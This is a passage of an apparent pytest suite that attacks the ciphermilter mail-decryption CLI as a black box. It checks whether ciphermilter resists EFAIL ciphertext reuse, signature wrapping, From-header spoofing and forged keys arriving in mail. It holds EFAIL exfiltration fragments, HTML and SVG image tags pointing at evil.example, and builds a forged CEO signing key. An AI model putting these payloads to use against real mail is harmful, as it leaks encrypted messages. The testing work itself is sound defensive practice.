"""An outsider's attack suite for issue 13: ciphermilter attacked only through `ciphermilter decrypt`.

Black box, spec level (shared/spec/info-headers.md, sections "From and the signer" and "What a
signature covers, and what is decrypted where"). Every message is built at test time with real tools
from the corpus keys (shared/corpus/keys) and wrapped into MIME here; the store is built with the CLI
(`store init`, `keys import`, `trust add`, `domains add`), every message goes through
`ciphermilter --store S decrypt --rcpt ADDR --explain` as a subprocess, and the tests assert only the
presence, absence or value of the spec's headers and whether the body is byte-identical to the one
received (or decrypted: the plaintext's marker line appears in the output body).

Every family has a control (the same message without the attack) so that no test passes because
nothing was processed.

Commands that build the vectors ($K = shared/corpus/keys, $G = a throwaway GNUPGHOME, every gpg call
with `--batch --homedir $G --pinentry-mode loopback --passphrase '' --trust-model always`):

  keys     gpg --import $K/pgp/pub-pgp-{bob-rsa3072,gus-sq-cv25519}.pub.asc
           gpg --quick-gen-key 'Sigrid Signer <sigrid@sender-pub.example>' ed25519 sign never
             (its public key is imported into the store by the administrator: `keys import sigrid.pub.asc`)
           gpg --quick-gen-key 'The CEO <ceo@corp-pub.example>' ed25519 sign never  (in its own $G;
             never imported: the forged key of family 5)
  S/MIME   openssl cms -encrypt -binary -aes256 -outform DER -in inner.mime $K/smime/pub-bob.cert.pem
           openssl cms -sign -binary -in inner.mime -signer leaf.pem -inkey leaf.key -certfile chain.pem
             -outform DER [-nodetach]   (leaf/chain: family 7's CAs made with `cryptography`)
           smime-sig-detached-chain/message.eml of the corpus: its multipart/signed entity (alice, valid
             and trusted under $K/trust/pub-root-ca.cert.pem) is re-wrapped with new headers
  OpenPGP  gpg --armor [--throw-keyids] [--compress-algo none] -r bob.pgp@corp-pub.example --encrypt
           gpg --encrypt (binary, for the .pgp attachment and the flipped-MDC vector: one byte of the
             SEIPD body 40 bytes before its end, i.e. inside the encrypted literal data, XOR 0x01;
             the fixture checks that gpg itself then reports "manipulated")
           gpg --armor --detach-sign --digest-algo SHA256 -u SIGNER entity.mime   (PGP/MIME, RFC 3156)
           gpg --armor --clearsign -u SIGNER text.txt ;  gpg --armor --sign -u SIGNER text.txt
           gpg --export ceo@corp-pub.example [--armor]   (Autocrypt keydata / key attachment / inline)

Families (numbers of the brief): 1 insider recipients, 2 EFAIL/reply (embedded ciphertext),
3 signature wrapping, 4 From: identity confusion, 5 keys that arrive in mail, 6 encryption spoofing,
7 S/MIME chain (RFC 5280) attacks, 8 forged info headers inside the plaintext, 9 integrity (MDC).
"""

from __future__ import annotations

import base64
import datetime
import email
import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID

CLI = Path(sys.executable).parent / "ciphermilter"
KEYS = Path("/work/shared/corpus/keys")
CORPUS = KEYS.parent
PREFIX = "x-ciphermail-info-"

BOB = "bob@corp-pub.example"          # S/MIME reader (pub-bob)
ERIN = "erin@corp-pub.example"        # another internal user with an S/MIME key (pub-erin-p256)
BOB_PGP = "bob.pgp@corp-pub.example"  # OpenPGP reader (pub-pgp-bob-rsa3072)
GUS = "gus.sq@corp-pub.example"       # another internal user with an OpenPGP key (pub-pgp-gus-sq-cv25519)
SIGRID = "sigrid@sender-pub.example"  # admin-imported OpenPGP signer (made here)
ALICE = "alice@sender-pub.example"    # S/MIME signer of the corpus case smime-sig-detached-chain
CEO = "ceo@corp-pub.example"          # the forger's user ID (family 5) / the chain attacks' leaf (family 7)
EVE = "eve@evil.example"


# ---------------------------------------------------------------------------- tools

def run(args, stdin: bytes | None = None, env=None) -> bytes:
    done = subprocess.run(args, input=stdin, capture_output=True, env=env)
    if done.returncode != 0:
        raise RuntimeError(f"{args!r} failed: {done.stderr.decode(errors='replace')}")
    return done.stdout


class Gpg:
    """gpg in a throwaway home: every call batch, loopback pinentry, no passphrase, trust always."""

    def __init__(self, home: Path):
        home.mkdir(mode=0o700, parents=True)
        self.home = home

    def __call__(self, *args, stdin: bytes | None = None) -> bytes:
        return run(["gpg", "--batch", "--quiet", "--homedir", str(self.home), "--pinentry-mode", "loopback",
                    "--passphrase", "", "--trust-model", "always", *args], stdin)

    def gen_signing_key(self, uid: str) -> None:
        self("--quick-gen-key", uid, "ed25519", "sign", "never")


def crlf(text: str) -> bytes:
    return text.replace("\r\n", "\n").replace("\n", "\r\n").encode()


def b64_lines(data: bytes) -> bytes:
    encoded = base64.b64encode(data)
    return b"".join(encoded[i:i + 76] + b"\r\n" for i in range(0, len(encoded), 76))


def multipart(subtype: str, parts: list[bytes], boundary: str, params: str = "") -> bytes:
    """A multipart entity (headers + body) from complete part entities (each headers CRLF CRLF body)."""
    head = f"Content-Type: multipart/{subtype}; boundary=\"{boundary}\"{params}\r\n\r\n".encode()
    body = b"This is a multi-part message in MIME format.\r\n"
    for part in parts:
        body += f"--{boundary}\r\n".encode() + part + b"\r\n"
    return head + body + f"--{boundary}--\r\n".encode()


def message(entity: bytes, from_lines=(f"From: Alice Sender <{ALICE}>",), to: str = BOB,
            extra: tuple[str, ...] = ()) -> bytes:
    """An RFC 5322 message whose root entity is ``entity`` (its own Content-* headers first)."""
    head = [*from_lines, f"To: <{to}>", "Subject: attack vector", "Date: Thu, 03 Dec 2026 06:00:00 +0000",
            "Message-ID: <attack@evil.example>", *extra, "MIME-Version: 1.0"]
    return "\r\n".join(head).encode() + b"\r\n" + entity


def text_part(text: str, ctype: str | None = "text/plain; charset=us-ascii") -> bytes:
    head = f"Content-Type: {ctype}\r\n" if ctype else ""
    return (head + "Content-Transfer-Encoding: 7bit\r\n").encode() + b"\r\n" + crlf(text)


def split(msg: bytes) -> tuple[bytes, bytes]:
    head, sep, body = msg.partition(b"\r\n\r\n")
    assert sep, "no header/body separator"
    return head, body


def header_fields(head: bytes) -> list[tuple[str, str]]:
    fields: list[list[str]] = []
    for line in head.decode("latin-1").split("\r\n"):
        if line[:1] in (" ", "\t") and fields:
            fields[-1][1] += line
        elif ":" in line:
            name, _, value = line.partition(":")
            fields.append([name.strip(), value.strip()])
    return [(n, v) for n, v in fields]


# ---------------------------------------------------------------------------- the store and the CLI

class Result:
    def __init__(self, sent: bytes, out: bytes, explain: dict):
        self.sent, self.out, self.explain = sent, out, explain
        self.head, self.body = split(out)
        self.info = {n.lower()[len(PREFIX):]: v for n, v in header_fields(self.head) if n.lower().startswith(PREFIX)}

    def flag(self, name: str) -> str | None:
        return self.info.get(name.lower())

    @property
    def untouched(self) -> bool:
        return self.body == split(self.sent)[1]

    def shows(self, marker: str) -> bool:
        """Whether the plaintext's marker line is in the output, as sent or inside a decoded part."""
        decoded = [part.get_payload(decode=True) or b"" for part in email.message_from_bytes(self.out).walk()]
        return any(marker.encode() in data for data in [self.body, *decoded])

    def __repr__(self):  # what a failing assertion prints
        return f"<info headers {self.info!r}>"


class Store:
    def __init__(self, path: Path):
        self.path = path

    def cli(self, *args) -> bytes:
        return run([str(CLI), "--store", str(self.path), *args])

    def decrypt(self, msg: bytes, *rcpts: str) -> Result:
        args = [str(CLI), "--store", str(self.path), "decrypt", "--explain"]
        for rcpt in rcpts:
            args += ["--rcpt", rcpt]
        done = subprocess.run([*args, "-"], input=msg, capture_output=True)
        assert done.returncode == 0, done.stderr.decode(errors="replace")
        return Result(msg, done.stdout, _explain(done.stderr))

    def keys(self) -> list:
        return json.loads(self.cli("keys", "list", "--json"))

    def copy(self, into: Path) -> "Store":
        into.mkdir(parents=True, exist_ok=True)
        target = into / "store.db"
        shutil.copy(self.path, target)
        shutil.copy(str(self.path) + ".key", str(target) + ".key")
        return Store(target)


def _explain(stderr: bytes) -> dict:
    text = stderr.decode(errors="replace")
    start = text.find("{")
    try:
        return json.loads(text[start:]) if start >= 0 else {}
    except ValueError:
        return {}


# ---------------------------------------------------------------------------- session fixtures

@pytest.fixture(scope="session")
def work(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("attacks")


@pytest.fixture(scope="session")
def gpg(work) -> Gpg:
    """The senders' gpg: the recipients' public keys and Sigrid's signing key."""
    g = Gpg(work / "gnupg")
    g("--import", str(KEYS / "pgp/pub-pgp-bob-rsa3072.pub.asc"), str(KEYS / "pgp/pub-pgp-gus-sq-cv25519.pub.asc"))
    g.gen_signing_key(f"Sigrid Signer <{SIGRID}>")
    return g


@pytest.fixture(scope="session")
def forger(work) -> Gpg:
    """The attacker's gpg: a fresh key whose user ID claims the CEO's internal address."""
    g = Gpg(work / "gnupg-forger")
    g.gen_signing_key(f"The CEO <{CEO}>")
    return g


class Pki:
    """Family 7: a root the administrator trusts and chains below it, made with `cryptography`."""

    def __init__(self, work: Path):
        self.dir = work / "pki"
        self.dir.mkdir()
        self.root_key = ec.generate_private_key(ec.SECP256R1())
        self.root = self._cert("Attack Test Root", self.root_key, self.root_key, None, ca=True, path_len=None)
        (self.dir / "root.pem").write_bytes(self.root.public_bytes(serialization.Encoding.PEM))

    def _cert(self, cn, key, issuer_key, issuer, *, ca, path_len=None, email=None, extra=()):
        now = datetime.datetime.now(datetime.timezone.utc)
        name = x509.Name([x509.NameAttribute(NameOID.ORGANIZATION_NAME, "Attack Test"),
                          x509.NameAttribute(NameOID.COMMON_NAME, cn)])
        builder = (x509.CertificateBuilder().subject_name(name)
                   .issuer_name(issuer.subject if issuer else name)
                   .public_key(key.public_key()).serial_number(x509.random_serial_number())
                   .not_valid_before(now - datetime.timedelta(days=1))
                   .not_valid_after(now + datetime.timedelta(days=365))
                   .add_extension(x509.BasicConstraints(ca=ca, path_length=path_len if ca else None), critical=True)
                   .add_extension(x509.SubjectKeyIdentifier.from_public_key(key.public_key()), critical=False)
                   .add_extension(x509.AuthorityKeyIdentifier.from_issuer_public_key(issuer_key.public_key()),
                                  critical=False))
        if ca:
            builder = builder.add_extension(x509.KeyUsage(
                digital_signature=True, content_commitment=False, key_encipherment=False, data_encipherment=False,
                key_agreement=False, key_cert_sign=True, crl_sign=True, encipher_only=False, decipher_only=False),
                critical=True)
        else:
            builder = (builder.add_extension(x509.KeyUsage(
                digital_signature=True, content_commitment=True, key_encipherment=False, data_encipherment=False,
                key_agreement=False, key_cert_sign=False, crl_sign=False, encipher_only=False, decipher_only=False),
                critical=True)
                .add_extension(x509.ExtendedKeyUsage([ExtendedKeyUsageOID.EMAIL_PROTECTION]), critical=False)
                .add_extension(x509.SubjectAlternativeName([x509.RFC822Name(email)]), critical=False))
        for ext, critical in extra:
            builder = builder.add_extension(ext, critical=critical)
        return builder.sign(issuer_key, hashes.SHA256())

    def ca(self, cn, issuer_key, issuer, **kw):
        key = ec.generate_private_key(ec.SECP256R1())
        return key, self._cert(cn, key, issuer_key, issuer, ca=True, **kw)

    def chain(self, label: str, cas: list[tuple], leaf_extra=()) -> tuple[Path, Path, Path]:
        """(leaf cert, leaf key, chain file) for a leaf ceo@corp-pub.example below ``cas`` (top first)."""
        issuer_key, issuer = self.root_key, self.root
        for key, cert in cas:
            issuer_key, issuer = key, cert
        key = ec.generate_private_key(ec.SECP256R1())
        leaf = self._cert(f"CEO ({label})", key, issuer_key, issuer, ca=False, email=CEO, extra=leaf_extra)
        base = self.dir / label
        (base.with_suffix(".leaf.pem")).write_bytes(leaf.public_bytes(serialization.Encoding.PEM))
        (base.with_suffix(".key.pem")).write_bytes(key.private_bytes(
            serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()))
        (base.with_suffix(".chain.pem")).write_bytes(
            b"".join(c.public_bytes(serialization.Encoding.PEM) for _, c in cas))
        return base.with_suffix(".leaf.pem"), base.with_suffix(".key.pem"), base.with_suffix(".chain.pem")


@pytest.fixture(scope="session")
def pki(work) -> Pki:
    return Pki(work)


@pytest.fixture(scope="session")
def base_store(work, gpg, pki) -> Store:
    store = Store(work / "base" / "store.db")
    store.path.parent.mkdir()
    store.cli("store", "init")
    store.cli("keys", "import", str(KEYS / "smime/pub-bob.p12"), "--password", "corpus-public")
    store.cli("keys", "import", str(KEYS / "smime/pub-erin-p256.p12"), "--password", "corpus-public")
    store.cli("keys", "import", str(KEYS / "pgp/pub-pgp-bob-rsa3072.sec.asc"))
    store.cli("keys", "import", str(KEYS / "pgp/pub-pgp-gus-sq-cv25519.sec.asc"))
    sigrid = work / "sigrid.pub.asc"
    sigrid.write_bytes(gpg("--armor", "--export", SIGRID))
    store.cli("keys", "import", str(sigrid))
    store.cli("trust", "add", str(KEYS / "trust/pub-root-ca.cert.pem"))
    store.cli("trust", "add", str(pki.dir / "root.pem"))
    store.cli("domains", "add", "corp-pub.example")
    return store


@pytest.fixture
def store(base_store, tmp_path) -> Store:
    """A private copy per test: what one message may write into the store never reaches another test."""
    return base_store.copy(tmp_path / "store")


# ---------------------------------------------------------------------------- builders

INNER = "Content-Type: text/plain; charset=us-ascii\r\nContent-Transfer-Encoding: 7bit\r\n\r\n{marker}\r\n"


def smime_encrypted(work: Path, plaintext: bytes, cert: str = "smime/pub-bob.cert.pem") -> bytes:
    """The DER EnvelopedData of ``plaintext`` (a MIME entity) for ``cert``."""
    src = work / "smime-in.mime"
    src.write_bytes(plaintext)
    return run(["openssl", "cms", "-encrypt", "-binary", "-aes256", "-outform", "DER", "-in", str(src),
                str(KEYS / cert)])


def p7m_entity(der: bytes, smime_type: str = "enveloped-data") -> bytes:
    return (f"Content-Type: application/pkcs7-mime; smime-type={smime_type}; name=\"smime.p7m\"\r\n"
            "Content-Transfer-Encoding: base64\r\n"
            "Content-Disposition: attachment; filename=\"smime.p7m\"\r\n\r\n").encode() + b64_lines(der)


def pgpmime_encrypted_entity(armored: bytes, boundary: str = "enc-boundary-1") -> bytes:
    control = b"Content-Type: application/pgp-encrypted\r\nContent-Description: PGP/MIME version\r\n\r\nVersion: 1\r\n"
    data = (b"Content-Type: application/octet-stream; name=\"encrypted.asc\"\r\n"
            b"Content-Disposition: inline; filename=\"encrypted.asc\"\r\n\r\n" + armored.replace(b"\r\n", b"\n")
            .replace(b"\n", b"\r\n"))
    return multipart("encrypted", [control, data], boundary, '; protocol="application/pgp-encrypted"')


def pgp_binary_entity(binary: bytes) -> bytes:
    return (b"Content-Type: application/octet-stream; name=\"secret.txt.pgp\"\r\n"
            b"Content-Transfer-Encoding: base64\r\n"
            b"Content-Disposition: attachment; filename=\"secret.txt.pgp\"\r\n\r\n" + b64_lines(binary))


def pgp_encrypt(gpg: Gpg, plaintext: bytes, *opts: str, armor: bool = True) -> bytes:
    return gpg(*(["--armor"] if armor else []), *opts, "-r", BOB_PGP, "--encrypt", stdin=plaintext)


def pgpmime_signed(gpg: Gpg, entity: bytes, signer: str, boundary: str = "sig-boundary-1") -> bytes:
    """RFC 3156 multipart/signed over ``entity`` (its canonical CRLF bytes, as signed)."""
    signature = gpg("--armor", "--detach-sign", "--digest-algo", "SHA256", "-u", signer, stdin=entity)
    sig_part = (b"Content-Type: application/pgp-signature; name=\"signature.asc\"\r\n"
                b"Content-Disposition: attachment; filename=\"signature.asc\"\r\n\r\n"
                + signature.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n"))
    return multipart("signed", [entity, sig_part], boundary,
                     '; micalg=pgp-sha256; protocol="application/pgp-signature"')


def corpus_smime_signed_entity() -> bytes:
    """The multipart/signed entity of the corpus case smime-sig-detached-chain (alice, valid, trusted)."""
    raw = (CORPUS / "smime-sig-detached-chain/message.eml").read_bytes()
    head, body = split(raw)
    ctype = [f"{n}: {v}" for n, v in header_fields(head) if n.lower() == "content-type"]
    return ctype[0].encode() + b"\r\n\r\n" + body


def smime_signed(work: Path, leaf: Path, key: Path, chain: Path, content: bytes, opaque: bool = False) -> bytes:
    """openssl cms -sign over ``content``: a multipart/signed entity, or the DER of an opaque SignedData."""
    src = work / "sign-in.mime"
    src.write_bytes(content)
    args = ["openssl", "cms", "-sign", "-binary", "-md", "sha256", "-in", str(src), "-signer", str(leaf),
            "-inkey", str(key)]
    if chain.read_bytes():
        args += ["-certfile", str(chain)]
    if opaque:
        return run([*args, "-nodetach", "-outform", "DER"])
    der = run([*args, "-outform", "DER"])
    sig_part = (b"Content-Type: application/pkcs7-signature; name=\"smime.p7s\"\r\n"
                b"Content-Transfer-Encoding: base64\r\n"
                b"Content-Disposition: attachment; filename=\"smime.p7s\"\r\n\r\n" + b64_lines(der))
    return multipart("signed", [content, sig_part], "smime-sig-boundary",
                     '; protocol="application/pkcs7-signature"; micalg="sha-256"')


# ============================================================================ 1. insider recipients

@pytest.fixture(scope="session")
def insider(work, gpg) -> dict[str, bytes]:
    """The same plaintext encrypted to one reader, in every format: root entities."""
    inner = crlf(INNER.format(marker="INSIDER-SECRET-1"))
    return {
        "smime": p7m_entity(smime_encrypted(work, inner)),
        "pgpmime": pgpmime_encrypted_entity(pgp_encrypt(gpg, inner)),
        "inline": text_part(pgp_encrypt(gpg, b"INSIDER-SECRET-1\n").decode()),
        "hidden": pgpmime_encrypted_entity(pgp_encrypt(gpg, inner, "--throw-keyids")),
    }


READER = {"smime": BOB, "pgpmime": BOB_PGP, "inline": BOB_PGP, "hidden": BOB_PGP}
OTHER_INTERNAL = {"smime": ERIN, "pgpmime": GUS, "inline": GUS, "hidden": GUS}
NOT_FOUND = {"smime": "SMIME-Decryption-Key-Not-Found", "pgpmime": "PGP-Decryption-Key-Not-Found",
             "inline": "PGP-Decryption-Key-Not-Found", "hidden": "PGP-Decryption-Key-Not-Found"}


@pytest.mark.parametrize("fmt", ["smime", "pgpmime", "inline", "hidden"])
def test_insider_control_reader_gets_plaintext(store, insider, fmt):
    result = store.decrypt(message(insider[fmt], to=READER[fmt]), READER[fmt])
    assert result.shows("INSIDER-SECRET-1"), result
    assert result.flag(NOT_FOUND[fmt]) is None, result


@pytest.mark.parametrize("fmt", ["smime", "pgpmime", "inline", "hidden"])
def test_insider_other_internal_user_gets_no_plaintext(store, insider, fmt):
    """Encrypted to bob, delivered to another internal user who holds a key of her own: not for her."""
    result = store.decrypt(message(insider[fmt], to=OTHER_INTERNAL[fmt]), OTHER_INTERNAL[fmt])
    assert result.untouched, result
    assert not result.shows("INSIDER-SECRET-1")
    if fmt != "hidden":  # a hidden recipient names no key at all: the spec fixes no flag for it
        assert result.flag(NOT_FOUND[fmt]) == "True", result


@pytest.mark.parametrize("fmt", ["smime", "pgpmime", "inline", "hidden"])
def test_insider_reader_plus_other_internal_user_gets_no_plaintext(store, insider, fmt):
    """Every internal envelope recipient must be a reader: bob + another internal user -> not decrypted."""
    result = store.decrypt(message(insider[fmt], to=READER[fmt]), READER[fmt], OTHER_INTERNAL[fmt])
    assert result.untouched, result


# ============================================================================ 2. EFAIL / reply attacks

@pytest.fixture(scope="session")
def captured(work, gpg) -> dict[str, bytes]:
    """Ciphertexts an attacker captured (encrypted to our readers), as parts he can re-send."""
    inner = crlf(INNER.format(marker="CAPTURED-SECRET-2"))
    return {
        "pgpmime": pgpmime_encrypted_entity(pgp_encrypt(gpg, inner), "captured-enc"),
        "pgpbinary": pgp_binary_entity(pgp_encrypt(gpg, b"CAPTURED-SECRET-2\n", armor=False)),
        "smime": p7m_entity(smime_encrypted(work, inner)),
    }


CAPTURED_READER = {"pgpmime": BOB_PGP, "pgpbinary": BOB_PGP, "smime": BOB}
MIXED = {"pgpmime": "PGP-Mixed-Content", "pgpbinary": "PGP-Mixed-Content", "smime": "SMIME-Mixed-Content"}
EXFIL_HTML = '<html><body><img src="http://evil.example/collect?'


def efail_context(name: str, part: bytes, forger: Gpg) -> bytes:
    """The captured ``part`` placed beside attacker content as ``name`` says: a root entity."""
    text = text_part("Please see below.\n")
    siblings = {
        "beside-text": [text, part],
        "beside-no-content-type": [text_part("no content type here\n", None), part],
        "beside-html-comment": [text_part(EXFIL_HTML + "\n", "text/html (comment)"), part,
                                text_part('">\n</body></html>\n', "text/html (comment)")],
        "beside-xhtml": [text_part(EXFIL_HTML + "\n", "application/xhtml+xml"), part],
        "beside-svg": [text_part('<svg xmlns="http://www.w3.org/2000/svg"><image href="http://evil.example/x?\n',
                                 "image/svg+xml"), part],
    }
    if name in siblings:
        return multipart("mixed", siblings[name], "efail-outer")
    if name == "in-alternative":
        return multipart("alternative", [text, part], "efail-alt")
    if name == "in-related":
        return multipart("related", [text_part(EXFIL_HTML + "\n", "text/html"), part], "efail-rel",
                         '; type="text/html"')
    assert name == "in-attacker-signed"
    signed_content = multipart("mixed", [text, part], "efail-signed-inner")
    return pgpmime_signed(forger, signed_content, CEO, "efail-signed-outer")


EFAIL_CONTEXTS = ["beside-text", "beside-no-content-type", "beside-html-comment", "beside-xhtml", "beside-svg",
                  "in-alternative", "in-related", "in-attacker-signed"]


@pytest.mark.parametrize("payload", ["pgpmime", "pgpbinary", "smime"])
def test_efail_control_whole_message_is_decrypted(store, captured, payload):
    reader = CAPTURED_READER[payload]
    result = store.decrypt(message(captured[payload], to=reader), reader)
    assert result.shows("CAPTURED-SECRET-2"), result
    assert result.flag(MIXED[payload]) is None, result


@pytest.mark.parametrize("context", EFAIL_CONTEXTS)
@pytest.mark.parametrize("payload", ["pgpmime", "pgpbinary", "smime"])
def test_efail_embedded_ciphertext_is_not_decrypted(store, captured, forger, payload, context):
    reader = CAPTURED_READER[payload]
    result = store.decrypt(message(efail_context(context, captured[payload], forger), to=reader), reader)
    assert result.untouched, result
    assert not result.shows("CAPTURED-SECRET-2")
    assert result.flag(MIXED[payload]) == "True", result


def test_efail_inline_block_with_text_around_is_not_decrypted(store, gpg):
    block = pgp_encrypt(gpg, b"CAPTURED-SECRET-2\n").decode()
    entity = text_part(f"Hi, what do you think of this?\n\n{block}\n> quoted reply text\n")
    result = store.decrypt(message(entity, to=BOB_PGP), BOB_PGP)
    assert result.untouched, result
    assert result.flag("PGP-Mixed-Content") == "True", result


# ============================================================================ 3. signature wrapping

@pytest.fixture(scope="session")
def sigrid_signed(gpg) -> bytes:
    """A valid PGP/MIME signed entity by the admin-imported key of sigrid@sender-pub.example."""
    return pgpmime_signed(gpg, text_part("Signed by Sigrid: pay invoice 17.\n"), SIGRID)


def signature_reported(result: Result, fmt: str) -> bool:
    names = ("pgp-signed", "pgp-signature-valid") if fmt == "pgp" else ("smime-signed", "signer-verified-0-0")
    return any(result.flag(n) is not None for n in names)


def wrapped(entity: bytes, how: str) -> bytes:
    before = text_part("ATTACKER TEXT BEFORE: wire 1,000,000 to account 666.\n")
    after = text_part("ATTACKER TEXT AFTER: the above is confirmed.\n")
    if how == "text-before":
        return multipart("mixed", [before, entity], "wrap-outer")
    if how == "text-after":
        return multipart("mixed", [entity, after], "wrap-outer")
    if how == "text-around":
        return multipart("mixed", [before, entity, after], "wrap-outer")
    assert how == "rfc822-attachment"
    inner = message(entity, from_lines=("From: <someone@sender-pub.example>",))
    return multipart("mixed", [before, b"Content-Type: message/rfc822\r\n\r\n" + inner], "wrap-outer")


WRAPS = ["text-before", "text-after", "text-around", "rfc822-attachment"]


def test_wrapping_control_pgpmime_signed_whole_message(store, sigrid_signed):
    result = store.decrypt(message(sigrid_signed, from_lines=(f"From: Sigrid <{SIGRID}>",)), BOB)
    assert result.flag("PGP-Signature-Valid") == "True", result
    assert result.flag("PGP-Mixed-Content") is None, result


@pytest.mark.parametrize("how", WRAPS)
def test_wrapping_pgpmime_signed_part_beside_attacker_text(store, sigrid_signed, how):
    result = store.decrypt(message(wrapped(sigrid_signed, how), from_lines=(f"From: Sigrid <{SIGRID}>",)), BOB)
    if signature_reported(result, "pgp"):
        assert result.flag("PGP-Mixed-Content") == "True", result


@pytest.mark.parametrize("fmt", ["pgp", "smime"])
def test_wrapping_spec_table_mixed_flag_written(store, sigrid_signed, fmt):
    """Stricter than "if reported": the spec's table defines the Mixed-Content flag by the situation alone
    (protected content beside content it does not cover), so a signed part between attacker texts gets it."""
    entity = sigrid_signed if fmt == "pgp" else corpus_smime_signed_entity()
    result = store.decrypt(message(wrapped(entity, "text-around")), BOB)
    assert result.flag("PGP-Mixed-Content" if fmt == "pgp" else "SMIME-Mixed-Content") == "True", result


def test_wrapping_control_smime_signed_whole_message(store):
    result = store.decrypt(message(corpus_smime_signed_entity()), BOB)
    assert result.flag("Signer-Verified-0-0") == "True", result
    assert result.flag("SMIME-Mixed-Content") is None, result


@pytest.mark.parametrize("how", WRAPS)
def test_wrapping_smime_signed_part_beside_attacker_text(store, how):
    result = store.decrypt(message(wrapped(corpus_smime_signed_entity(), how)), BOB)
    if signature_reported(result, "smime"):
        assert result.flag("SMIME-Mixed-Content") == "True", result


@pytest.fixture(scope="session")
def clearsigned(gpg) -> str:
    return gpg("--armor", "--clearsign", "-u", SIGRID, stdin=b"Signed by Sigrid: pay invoice 17.\n").decode()


def test_wrapping_control_clearsigned_alone(store, clearsigned):
    result = store.decrypt(message(text_part(clearsigned), from_lines=(f"From: <{SIGRID}>",)), BOB)
    assert result.flag("PGP-Signature-Valid") == "True", result
    assert result.flag("PGP-Mixed-Content") is None, result


@pytest.mark.parametrize("around", ["before", "after", "both"])
def test_wrapping_clearsigned_block_with_text_around(store, clearsigned, around):
    before = "ATTACKER TEXT BEFORE\n\n" if around in ("before", "both") else ""
    after = "\nATTACKER TEXT AFTER\n" if around in ("after", "both") else ""
    result = store.decrypt(message(text_part(before + clearsigned + after), from_lines=(f"From: <{SIGRID}>",)), BOB)
    if signature_reported(result, "pgp"):
        assert result.flag("PGP-Mixed-Content") == "True", result
    else:  # the control shows the block is found: a wrapper that hides it entirely is a failure too
        pytest.fail(f"clearsigned block not reported at all: {result!r}")


# ============================================================================ 4. From: identity confusion

def from_variants(signer: str) -> dict[str, tuple[str, ...]]:
    local, _, domain = signer.partition("@")
    return {
        "addr-in-display-name": (f"From: {EVE} <{signer}>",),
        "quoted-addr-in-display-name": (f'From: "{EVE}" <{signer}>',),
        "signer-in-display-name-other-addr": (f"From: {signer} <{EVE}>",),
        "quoted-signer-in-display-name-other-addr": (f'From: "{signer}" <{EVE}>',),
        "two-from-fields": (f"From: <{signer}>", f"From: <{EVE}>"),
        "two-mailboxes": (f"From: <{signer}>, <{EVE}>",),
        "same-mailbox-twice": (f"From: <{signer}>, <{signer}>",),
        "group": (f"From: Board: <{signer}>;",),
        "rfc2047-q-display-name": (f"From: =?utf-8?q?{EVE.replace('@', '=40')}?= <{signer}>",),
        "rfc2047-b-display-name": (f"From: =?utf-8?b?{base64.b64encode(EVE.encode()).decode()}?= <{signer}>",),
        "unparseable": (f"From: <{signer}",),
        "unparseable-double-at": (f"From: {local}@@{domain}",),
        "other-address": (f"From: <{EVE}>",),
        "no-from": (),
    }


def from_controls(signer: str) -> dict[str, tuple[str, ...]]:
    return {"addr-spec": (f"From: {signer}",), "name-addr": (f"From: Some Name <{signer}>",),
            "angle-only": (f"From: <{signer}>",), "upper-case": (f"From: \"Some Name\" <{signer.upper()}>",),
            "display-name-is-the-address": (f"From: \"{signer}\" <{signer}>",)}


FROM_ATTACKS = list(from_variants(SIGRID))
FROM_CONTROLS = list(from_controls(SIGRID))


@pytest.mark.parametrize("variant", FROM_CONTROLS)
def test_from_control_pgp_signer_no_mismatch(store, sigrid_signed, variant):
    result = store.decrypt(message(sigrid_signed, from_lines=from_controls(SIGRID)[variant]), BOB)
    assert result.flag("PGP-Signature-Valid") == "True", result
    assert result.flag("PGP-Signer-Mismatch") is None, result


@pytest.mark.parametrize("variant", FROM_ATTACKS)
def test_from_pgp_signer_mismatch(store, sigrid_signed, variant):
    result = store.decrypt(message(sigrid_signed, from_lines=from_variants(SIGRID)[variant]), BOB)
    assert result.flag("PGP-Signature-Valid") == "True", result  # the signature itself is good
    assert result.flag("PGP-Signer-Mismatch") == "True", result


@pytest.mark.parametrize("variant", FROM_CONTROLS)
def test_from_control_smime_signer_no_mismatch(store, variant):
    result = store.decrypt(message(corpus_smime_signed_entity(), from_lines=from_controls(ALICE)[variant]), BOB)
    assert result.flag("Signer-Verified-0-0") == "True", result
    assert result.flag("Signer-Mismatch") is None, result


@pytest.mark.parametrize("variant", FROM_ATTACKS)
def test_from_smime_signer_mismatch(store, variant):
    result = store.decrypt(message(corpus_smime_signed_entity(), from_lines=from_variants(ALICE)[variant]), BOB)
    assert result.flag("Signer-Verified-0-0") == "True", result
    assert result.flag("Signer-Mismatch") == "True", result


# ============================================================================ 5. keys that arrive in mail

def ceo_signed_message(signer_gpg: Gpg, signer: str, carrier: str, key_gpg: Gpg) -> bytes:
    """A PGP/MIME message signed by ``signer`` that carries the forger's public key as ``carrier`` says."""
    armored = key_gpg("--armor", "--export", CEO).decode()
    extra: tuple[str, ...] = ()
    if carrier == "autocrypt":
        keydata = base64.b64encode(key_gpg("--export", CEO)).decode()
        folded = "\r\n ".join(keydata[i:i + 72] for i in range(0, len(keydata), 72))
        extra = (f"Autocrypt: addr={CEO}; prefer-encrypt=mutual; keydata=\r\n {folded}",)
        content = text_part("Urgent: wire the money today. -- CEO\n")
    elif carrier == "attachment":
        key_part = (b"Content-Type: application/pgp-keys; name=\"ceo.asc\"\r\n"
                    b"Content-Disposition: attachment; filename=\"ceo.asc\"\r\n\r\n" + crlf(armored))
        content = multipart("mixed", [text_part("Urgent: wire the money today. -- CEO\n"), key_part], "key-mixed")
    else:
        assert carrier == "inline"
        content = text_part("Urgent: wire the money today. -- CEO\n\nMy key:\n\n" + armored)
    return message(pgpmime_signed(signer_gpg, content, signer), from_lines=(f"From: The CEO <{CEO}>",),
                   extra=extra)


CARRIERS = ["autocrypt", "attachment", "inline"]


def test_forged_key_control_admin_imported_signer_is_valid(store, gpg, forger):
    """The same message signed by an administrator-imported key: valid (the carrier itself does no harm)."""
    result = store.decrypt(ceo_signed_message(gpg, SIGRID, "autocrypt", forger), BOB)
    assert result.flag("PGP-Signature-Valid") == "True", result


@pytest.mark.parametrize("carrier", CARRIERS)
